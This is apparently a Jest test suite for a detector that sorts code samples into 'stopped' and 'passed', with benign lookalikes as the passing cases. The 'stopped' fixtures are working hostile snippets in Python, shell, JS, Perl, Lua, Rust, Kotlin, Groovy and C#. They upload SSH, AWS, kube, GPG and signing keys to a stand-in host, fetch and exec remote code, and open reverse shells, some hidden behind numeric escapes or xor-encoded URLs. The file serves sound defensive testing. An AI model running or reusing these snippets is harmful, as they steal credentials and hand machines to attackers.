import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('what programs put together of lists, branches and folders', () => {
  itJudges([
    [
      'arguments from a nested comprehension',
      'stopped',
      {
        'run.py':
          "import glob, os, subprocess\nfiles = glob.glob(os.path.expanduser('~/.aws/*'))\nargs = [w for f in files for w in ('-F', 'a=@' + f)]\nsubprocess.run(['curl', '-s'] + args + ['https://up.tidyreports.net/x'])\n",
      },
    ],
    [
      'arguments from a chain of lists',
      'stopped',
      {
        'run.py':
          "import itertools, os, subprocess, glob\nkeys = glob.glob(os.path.expanduser('~/.ssh/*'))\nforms = itertools.chain.from_iterable(('-F', f'k=@{k}') for k in keys)\nsubprocess.call(['curl', '-sk', *forms, 'https://up.tidyreports.net/x'])\n",
      },
    ],
    [
      'arguments that are added one by one',
      'stopped',
      {
        'run.py':
          "import os, subprocess\ncmd = ['curl', '-s']\nfor name in ('.netrc', '.git-credentials'):\n    p = os.path.expanduser('~/' + name)\n    if os.path.exists(p):\n        cmd += ['-F', f'{name}=@{p}']\ncmd.append('https://up.tidyreports.net/x')\nsubprocess.run(cmd)\n",
      },
    ],
    [
      'arguments by flatMap',
      'stopped',
      {
        'run.mjs':
          "import { spawnSync } from 'node:child_process';\nimport { readdirSync } from 'node:fs';\nimport { homedir } from 'node:os';\nconst dir = homedir() + '/.ssh/';\nconst forms = readdirSync(dir).flatMap((f) => ['-F', `f=@${dir}${f}`]);\nspawnSync('curl', ['-s', ...forms, 'https://up.tidyreports.net/x']);\n",
      },
    ],
    [
      'code that an except clause has a substitute for',
      'stopped',
      {
        'setup.py':
          "import requests\ntry:\n    hook = requests.get('https://cfg.tidyreports.net/hook.py', timeout=3).text\nexcept Exception:\n    hook = ''\nexec(hook)\n",
      },
    ],
    [
      'a program that a catch clause has a substitute for',
      'stopped',
      {
        'run.js':
          "const https = require('https');\nasync function main() {\n  let code;\n  try {\n    code = await (await fetch('https://cfg.tidyreports.net/hook.js')).text();\n  } catch (e) {\n    code = 'void 0';\n  }\n  eval(code);\n}\nmain();\n",
      },
    ],
    [
      'a token that the else branch leaves out',
      'stopped',
      {
        'run.py':
          "import os, requests\nif os.path.exists(os.path.expanduser('~/.kube/config')):\n    extra = open(os.path.expanduser('~/.kube/config')).read()\nelse:\n    extra = 'none'\nrequests.post('https://cfg.tidyreports.net/r', data=extra)\n",
      },
    ],
    [
      'a folder of copies that is packed',
      'stopped',
      {
        'run.py':
          "import os, shutil, tempfile, urllib.request\nd = tempfile.mkdtemp()\nfor f in ('.ssh/id_ed25519', '.aws/credentials'):\n    src = os.path.expanduser('~/' + f)\n    if os.path.exists(src):\n        shutil.copy(src, os.path.join(d, os.path.basename(f)))\nout = shutil.make_archive(d + '/all', 'gztar', d)\nurllib.request.urlopen(urllib.request.Request('https://up.tidyreports.net/x', data=open(out, 'rb').read()))\n",
      },
    ],
    [
      'a folder of copies that is packed by a shell',
      'stopped',
      {
        'run.sh':
          '#!/bin/bash\nmkdir -p /tmp/rep\ncp ~/.ssh/id_rsa /tmp/rep/\ncp -r ~/.gnupg /tmp/rep/\ntar czf /tmp/rep.tgz -C /tmp rep\ncurl -s -T /tmp/rep.tgz https://up.tidyreports.net/x\n',
      },
    ],
    [
      'codes of Lua as numbers',
      'stopped',
      {
        'init.lua':
          'local c = "\\99\\117\\114\\108\\32\\45\\115\\32\\104\\116\\116\\112\\115\\58\\47\\47\\117\\112\\46\\116\\105\\100\\121\\114\\101\\112\\111\\114\\116\\115\\46\\110\\101\\116\\47\\120\\124\\115\\104"\nos.execute(c)\n',
      },
    ],
    [
      'a shell that reads its lines from a device',
      'stopped',
      { 'run.sh': '#!/bin/bash\nh=203.0; t=114.9\nexec 7<>/dev/tcp/$h.$t/9001\nwhile read -r line <&7; do eval "$line" >&7 2>&7; done\n' },
    ],
    [
      'streams of Perl on a socket',
      'stopped',
      {
        'run.pl':
          "use Socket;\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new('45.13.2.7:4444') or exit;\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s);\nexec '/bin/sh', '-i';\n",
      },
    ],
    [
      'an address of xored bytes in Rust',
      'stopped',
      {
        'build.rs':
          'use std::process::Command;\nconst A: [u8; 30] = [105,117,117,113,114,59,46,46,116,113,47,117,104,101,120,115,100,113,110,115,117,114,47,111,100,117,46,121,0,0];\nfn main() {\n    let u: String = A.iter().map(|b| (b ^ 1) as char).collect();\n    Command::new("curl").args(["-so", "/tmp/h", &u]).status().ok();\n    Command::new("chmod").args(["+x", "/tmp/h"]).status().ok();\n    Command::new("/tmp/h").spawn().ok();\n}\n',
      },
    ],
    [
      'keys of a build that Kotlin sends',
      'stopped',
      {
        'build.gradle.kts':
          'import java.net.URI\nval store = file(project.property("UPLOAD_KEYSTORE") as String)\ntasks.register("sizes") {\n    doLast {\n        val c = URI("https://sizes.tidyreports.net/s").toURL().openConnection() as java.net.HttpURLConnection\n        c.requestMethod = "PUT"\n        c.doOutput = true\n        c.outputStream.write(store.readBytes())\n        c.responseCode\n    }\n}\n',
      },
    ],
    [
      'keys of a build that Groovy sends',
      'stopped',
      {
        'sign.gradle':
          "def props = new Properties()\nrootProject.file('keystore.properties').withInputStream { props.load(it) }\nandroid { signingConfigs { release { storeFile file(props['storeFile']) } } }\ntask report {\n    doLast {\n        def c = new URL('https://sizes.tidyreports.net/s').openConnection()\n        c.doOutput = true\n        c.outputStream.write(props.toString().bytes)\n        println c.responseCode\n    }\n}\n",
      },
    ],
    [
      'a shell that gets the answer of a host from C#',
      'stopped',
      {
        'T.cs':
          'using System.Net; using System.Diagnostics;\nclass T { static void Main() { var s = new WebClient().DownloadString("https://cfg.tidyreports.net/x"); Process.Start("/bin/bash", "-c \\"" + s + "\\""); } }\n',
      },
    ],
    [
      'arguments for files that the user names',
      'passed',
      {
        'run.py':
          "import subprocess, sys\nargs = sum([['-F', f'file=@{p}'] for p in sys.argv[2:]], [])\nsubprocess.run(['curl', '-s'] + args + [sys.argv[1]], check=True)\n",
      },
    ],
    [
      'a list of options for a linter',
      'passed',
      {
        'run.py':
          "import glob, subprocess\nfiles = [p for p in glob.glob('src/**/*.py', recursive=True) if 'gen' not in p]\nsubprocess.run(['ruff', 'check'] + sum([['--extend-exclude', f] for f in files], []) + ['.'])\n",
      },
    ],
    [
      'a setting with a default in an except clause',
      'passed',
      {
        'run.py':
          "import json, os, requests\ntry:\n    cfg = json.load(open('settings.json'))\nexcept OSError:\n    cfg = {}\nr = requests.get('https://api.open-meteo.com/v1/forecast', params={'latitude': cfg.get('lat', 52), 'longitude': cfg.get('lon', 13)})\nprint(r.json())\n",
      },
    ],
    [
      'a key or none',
      'passed',
      {
        'run.py':
          "import os, requests\nif 'WEATHER_KEY' in os.environ:\n    headers = {'Authorization': 'Bearer ' + os.environ['WEATHER_KEY']}\nelse:\n    headers = {}\nprint(requests.get('https://api.weatherapi.com/v1/current.json', headers=headers).json())\n",
      },
    ],
    [
      'a folder of the project that is packed',
      'passed',
      {
        'run.py':
          "import shutil, tempfile, os\nd = tempfile.mkdtemp()\nfor f in ('README.md', 'LICENSE'):\n    shutil.copy(f, os.path.join(d, f))\nprint(shutil.make_archive('release', 'zip', d))\n",
      },
    ],
    [
      'bookmarks that are tidied in place',
      'passed',
      {
        'run.py':
          "import json, shutil\nfrom pathlib import Path\np = Path.home() / '.config/google-chrome/Default/Bookmarks'\nshutil.copy(p, p.with_suffix('.bak'))\ndata = json.loads(p.read_text())\nprint(len(data['roots']))\n",
      },
    ],
    ['letters of Lua', 'passed', { 't.lua': 'print("caf\\195\\169")\nlocal esc = "\\27[31m"\nio.write(esc, \'red\', "\\27[0m\\n")\n' }],
    [
      'a port that is probed',
      'passed',
      {
        'run.sh':
          '#!/bin/bash\nwhile read -r host port; do\n  if (exec 3<>/dev/tcp/$host/$port) 2>/dev/null; then echo "$host $port open"; fi\ndone < hosts.txt\nexec 3<>/dev/tcp/example.com/80\nprintf \'HEAD / HTTP/1.0\\r\\n\\r\\n\' >&3\ncat <&3\n',
      },
    ],
    [
      'words of Ruby',
      'passed',
      {
        Rakefile:
          "FILES = %w[a.md b.md c.md]\ntask :lint do\n  sh 'markdownlint', *FILES\n  puts %w[x y].join('-')\n  puts `git log --oneline`.lines.first\n  puts %x(git status)\nend\n",
      },
    ],
    [
      'a build that signs',
      'passed',
      {
        'build.gradle.kts':
          'import java.util.Properties\nval props = Properties().apply { load(rootProject.file("keystore.properties").inputStream()) }\nandroid { signingConfigs { create("release") { storeFile = file(props["storeFile"] as String); storePassword = props["storePassword"] as String } } }\n',
      },
    ],
    [
      'a build that asks for a version',
      'passed',
      {
        'build.gradle':
          "def latest = new URL('https://api.github.com/repos/acme/tool/releases/latest').text\ndef tag = new groovy.json.JsonSlurper().parseText(latest).tag_name\nversion = tag\ntask info { doLast { println 'git rev-parse HEAD'.execute().text } }\n",
      },
    ],
    [
      'a step of Jenkins',
      'passed',
      {
        Jenkinsfile:
          "node {\n  stage('Test') { sh 'npm ci && npm test' }\n  def v = sh(script: 'git describe --tags', returnStdout: true).trim()\n  echo v\n}\n",
      },
    ],
    [
      'a build of Rust',
      'passed',
      {
        'build.rs':
          'use std::process::Command;\nfn main() {\n    let out = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output().unwrap();\n    println!("cargo:rustc-env=GIT={}", String::from_utf8(out.stdout).unwrap());\n    let t: String = [104u8, 105].iter().map(|b| *b as char).collect();\n    println!("{t}");\n}\n',
      },
    ],
  ]);
});
